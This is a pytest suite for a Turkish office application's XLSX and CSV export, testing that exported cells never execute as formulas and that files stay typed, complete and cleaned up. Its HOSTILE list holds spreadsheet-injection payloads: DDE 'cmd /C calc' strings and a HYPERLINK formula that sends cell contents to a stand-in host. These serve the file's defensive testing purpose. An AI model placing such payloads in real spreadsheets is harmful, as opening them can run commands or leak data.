"""Tables as XLSX and CSV: typed, whole, and nothing in them is run when they are opened."""

import csv
import errno
import gc
import io
import os
import signal
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from datetime import date, datetime, time
from pathlib import Path
from tempfile import TemporaryFile
from zipfile import ZipFile

import pytest
from flask import Flask
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from kalem import i18n
from kalem.output import Column, Sheet, Value, csv_file, xlsx_file
from kalem.output.files import FORMATS
from kalem.output.harmless import LONGEST, is_formula, storable

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

#: What people have put into subjects so that somebody else's spreadsheet runs it.
HOSTILE = [
    '=HYPERLINK("http://kotu.example/?x="&A1;"Tıklayın")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C notepad'!A1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-5",
    "+90 532 000 00 00",
    "=",
    "-",
    "\x00=1+1",
    "\x1b=1+1",
    '"=1+1',
]

#: Text that only looks dangerous, or is awkward to store.
AWKWARD = [
    "#REF!",
    "#N/A",
    "TRUE",
    "1E5",
    "2026/1",
    "01.02.2026",
    "a;b",
    'tırnak " içinde',
    "iki\nsatır",
    "<b>&amp;</b>",
    "_x003D_1+1",
    "İĞÜŞÖÇ ığüşöç",
    "😀",
    "a\u202eb",
    "\x0bdikey\x00sıfır\x1f",
    "\ud800yarım",
    "\ufffe\uffff",
    " boşluk ",
    "x=1",
    "ID",
]


@pytest.fixture
def app() -> Iterator[Flask]:
    made = Flask("office")
    i18n.install(made)
    with made.app_context():
        yield made


def sheet(*rows: list[Value], columns: tuple[Column, ...] = (Column("Konu", "long"),), most: int = 50_000) -> Sheet:
    return Sheet("Gelen evrak", columns, [rows[:2], rows[2:]], (("Belediye", "=1+1"),), most)


def bytes_of(write: Callable[..., None], table: Sheet) -> bytes:
    file = io.BytesIO()
    write(table, file)
    return file.getvalue()


def read_csv(data: bytes) -> list[list[str]]:
    """Read it as Excel does: with the mark at the beginning, semicolons, quotes."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(data: bytes) -> Worksheet:
    found = load_workbook(io.BytesIO(data)).worksheets[0]
    assert isinstance(found, Worksheet)
    return found


# Nothing is run -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_begins_as_a_formula_does(app: Flask, text: str) -> None:
    data = bytes_of(csv_file.write, sheet([text], ["Sonraki"]))
    rows = read_csv(data)
    assert [len(row) for row in rows] == [1, 1, 1]
    assert rows[1][0].startswith(("'", '"'))
    assert not is_formula(rows[1][0])
    assert rows[2] == ["Sonraki"]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_cell_of_an_xlsx_is_text(app: Flask, text: str) -> None:
    data = bytes_of(xlsx_file.write, sheet([text]))
    with ZipFile(io.BytesIO(data)) as archive:
        page = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        names = archive.namelist()
    assert not list(page.iter(f"{MAIN}f"))
    [cell] = [each for each in page.iter(f"{MAIN}c") if each.get("r") == "A2"]
    assert cell.get("t") == "inlineStr"
    assert "".join(cell.itertext()) == storable(text)
    assert not [name for name in names if "external" in name or "macro" in name.lower() or "vba" in name.lower()]
    assert not list(page.iter(f"{MAIN}hyperlink"))


@pytest.mark.parametrize("text", ["=1+1", "-5", "@x", "\t=1"])
def test_who_edits_the_cell_by_hand_makes_no_formula_of_it(app: Flask, text: str) -> None:
    assert read_xlsx(bytes_of(xlsx_file.write, sheet([text])))["A2"].quotePrefix
    assert not read_xlsx(bytes_of(xlsx_file.write, sheet(["düz"])))["A2"].quotePrefix


def test_headings_sheet_names_and_what_the_file_tells_of_itself_are_no_formulas_either(app: Flask) -> None:
    table = Sheet("=1+1[x]:*?/\\" * 5, (Column("=HEADING()"),), [[["x"]]], (("=A", "=B"),))
    book = load_workbook(io.BytesIO(bytes_of(xlsx_file.write, table)))
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in book.sheetnames)
    assert [cell.data_type for page in book for row in page.iter_rows() for cell in row] == ["s"] * 4
    assert read_csv(bytes_of(csv_file.write, table))[0] == ["'=HEADING()"]


@pytest.mark.parametrize("text", AWKWARD)
def test_other_text_stays_as_it_is(app: Flask, text: str) -> None:
    kept = storable(text)
    assert read_csv(bytes_of(csv_file.write, sheet([text])))[1] == [kept] or not kept
    cell = read_xlsx(bytes_of(xlsx_file.write, sheet([text])))["A2"]
    assert (cell.value or "") == kept
    assert cell.data_type == "s" or not kept


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("\x0bdikey\x00sıfır\x1f", "dikeysıfır"),
        ("\ud800yarım", "yarım"),
        ("\ufffea\uffff", "a"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\tb", "a\tb"),
    ],
)
def test_what_no_file_can_hold_is_left_out(text: str, kept: str) -> None:
    assert storable(text) == kept


@pytest.mark.parametrize("text", ["ğ" * 40_000, "😀" * 20_000, "=" * 40_000])
def test_a_cell_is_never_longer_than_a_spreadsheet_takes(app: Flask, text: str) -> None:
    cut = storable(text)
    assert cut.endswith("…")
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST
    assert read_xlsx(bytes_of(xlsx_file.write, sheet([text])))["A2"].value == cut


# Values ---------------------------------------------------------------------------------------------------------------

KINDS = (
    Column("Gün", "date"),
    Column("An", "moment"),
    Column("Saat", "time"),
    Column("Sayı", "number"),
    Column("Boş"),
)
VALUES: list[Value] = [date(2026, 11, 9), datetime(2026, 11, 9, 9, 5), time(14, 30), -12, None]


def test_days_times_and_numbers_are_such_in_an_xlsx(app: Flask) -> None:
    page = read_xlsx(bytes_of(xlsx_file.write, sheet(VALUES, columns=KINDS)))
    found = [page.cell(2, at) for at in range(1, 6)]
    assert [cell.value for cell in found] == [
        datetime(2026, 11, 9), datetime(2026, 11, 9, 9, 5), time(14, 30), -12, None,
    ]  # fmt: skip
    assert [cell.number_format for cell in found[:3]] == ["dd.mm.yyyy", "dd.mm.yyyy hh:mm", "hh:mm"]
    assert [cell.data_type for cell in found[:4]] == ["d", "d", "d", "n"]


def test_a_csv_writes_them_as_people_here_do(app: Flask) -> None:
    assert read_csv(bytes_of(csv_file.write, sheet(VALUES, columns=KINDS)))[1] == [
        "09.11.2026", "09.11.2026 09:05", "14:30", "-12", "",
    ]  # fmt: skip


def test_what_a_spreadsheet_would_get_wrong_is_text(app: Flask) -> None:
    columns = (Column("Gün", "date"), Column("Sayı", "number"))
    page = read_xlsx(bytes_of(xlsx_file.write, sheet([date(1899, 12, 31), 10**17 + 1], columns=columns)))
    assert [cell.value for cell in page[2]] == ["31.12.1899", "100000000000000001"]


def test_a_csv_is_what_a_turkish_excel_opens(app: Flask) -> None:
    data = bytes_of(csv_file.write, sheet(["a", 1], ["İ;ı", 2], columns=(Column("Konu"), Column("Sayı", "number"))))
    assert data == b'\xef\xbb\xbfKonu;Say\xc4\xb1\r\na;1\r\n"\xc4\xb0;\xc4\xb1";2\r\n'


def test_an_xlsx_keeps_its_heading_in_sight_and_tells_what_it_is(app: Flask) -> None:
    columns = (Column("Konu", "long"), Column("Gün", "date"))
    data = bytes_of(xlsx_file.write, sheet(["a", date(2026, 1, 1)], ["b", None], columns=columns))
    book = load_workbook(io.BytesIO(data))
    page = book.worksheets[0]
    assert book.sheetnames == ["Gelen evrak", "Bilgi"]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:B3"
    assert page.print_title_rows == "$1:$1"
    assert page.column_dimensions["A"].width > page.column_dimensions["B"].width
    assert page["A1"].font.bold
    assert [[cell.value for cell in row] for row in book.worksheets[1].iter_rows()] == [["Belediye", "=1+1"]]


# Limits ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("rows", "told"), [(2, False), (3, False), (4, True), (9, True)])
def test_a_table_that_is_not_whole_says_so_in_its_last_row(app: Flask, rows: int, told: bool) -> None:
    columns = (Column("Konu"), Column("Yıl", "number"))
    table = [[f"Evrak {number}", number] for number in range(rows)]
    found = read_csv(bytes_of(csv_file.write, sheet(*table, columns=columns, most=3)))
    note = ["İlk 3 kayıt. Kalanı bu dosyada yok: süzgeci daraltıp yeniden alın.", ""]
    assert (found[-1] == note) is told
    assert len(found) == 1 + min(rows, 3) + told
    page = read_xlsx(bytes_of(xlsx_file.write, sheet(*table, columns=columns, most=3)))
    assert page.max_row == 1 + min(rows, 3) + told


def test_rows_behind_the_limit_are_not_read(app: Flask) -> None:
    def pieces() -> Iterator[list[list[Value]]]:
        yield [["a"], ["b"]]
        yield [["c"]]
        raise AssertionError("read too far")

    bytes_of(csv_file.write, Sheet("Liste", (Column("Konu"),), pieces(), most=2))


def test_an_empty_table_has_its_heading(app: Flask) -> None:
    assert read_csv(bytes_of(csv_file.write, sheet())) == [["Konu"]]
    assert read_xlsx(bytes_of(xlsx_file.write, sheet())).max_row == 1


def test_a_failure_leaves_no_file_behind(app: Flask, tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def pieces() -> Iterator[list[list[Value]]]:
        yield [["a"]]
        raise RuntimeError("the database is gone")

    with pytest.raises(RuntimeError, match="gone"):
        bytes_of(xlsx_file.write, Sheet("Liste", (Column("Konu"),), pieces()))
    assert list(tmp_path.iterdir()) == []
    # What is left half-way would fail when it is swept up, in whatever then runs.
    gc.collect()


def test_a_full_disk_leaves_no_file_behind(app: Flask, tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    class Full(io.BytesIO):
        def write(self, data: object) -> int:
            raise OSError(errno.ENOSPC, "full")

    with pytest.raises(OSError, match="full"):
        xlsx_file.write(sheet(["a"]), Full())
    assert list(tmp_path.iterdir()) == []
    gc.collect()



@pytest.mark.parametrize("format", sorted(FORMATS))
def test_while_it_is_made_no_file_can_be_found_by_name(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, format: str
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    found: list[list[Path]] = []

    def pieces() -> Iterator[list[list[Value]]]:
        for _each in range(40):
            yield [[f"{at} Zümrüdüanka" * 20] for at in range(500)]
            found.append(list(tmp_path.iterdir()))

    with TemporaryFile() as file:
        FORMATS[format].write(Sheet("Liste", (Column("Konu"),), pieces()), file)
        assert file.tell() > 0
    assert found == [[]] * 40


#: Writes rows without end, and says when there are some.
ENDLESS = """
import itertools, sys, tempfile
from flask import Flask
from kalem import i18n
from kalem.output import Column, Sheet
from kalem.output.files import FORMATS
app = Flask("office")
i18n.install(app)
def pieces():
    for at in itertools.count():
        yield [["Zümrüdüanka" * 50]] * 500
        if at == 20:
            print("half", flush=True)
with app.app_context(), tempfile.SpooledTemporaryFile(1000) as file:
    FORMATS[sys.argv[1]].write(Sheet("Liste", (Column("Konu"),), pieces(), most=10**9), file)
"""


@pytest.mark.parametrize("end", [signal.SIGKILL, signal.SIGTERM])
@pytest.mark.parametrize("format", sorted(FORMATS))
def test_who_is_killed_while_he_writes_leaves_nothing(tmp_path: Path, format: str, end: signal.Signals) -> None:
    environment = {**os.environ, "TMPDIR": str(tmp_path), "PYTHONIOENCODING": "utf-8"}
    with subprocess.Popen(
        [sys.executable, "-c", ENDLESS, format], env=environment, stdout=subprocess.PIPE, text=True
    ) as made:
        assert made.stdout is not None
        assert made.stdout.readline() == "half\n"
        made.send_signal(end)
        assert made.wait(20) == -end
    assert list(tmp_path.iterdir()) == []


def test_ten_thousand_rows_are_read_back_as_they_were_written(app: Flask) -> None:
    columns = (Column("No", "number"), Column("Konu", "long"), Column("Gün", "date"))
    rows: list[list[Value]] = [[at, f"{at}. İğne ışığı; =\t\"çöp\"\nşık", date(2026, 11, 9)] for at in range(10_000)]
    table = sheet(*rows, columns=columns)
    assert read_csv(bytes_of(csv_file.write, table))[1:] == [[str(no), text, "09.11.2026"] for no, text, _day in rows]
    page = load_workbook(io.BytesIO(bytes_of(xlsx_file.write, table)), read_only=True).worksheets[0]
    found = [list(row) for row in page.iter_rows(min_row=2, values_only=True)]
    assert found == [[no, text, datetime(2026, 11, 9)] for no, text, _day in rows]
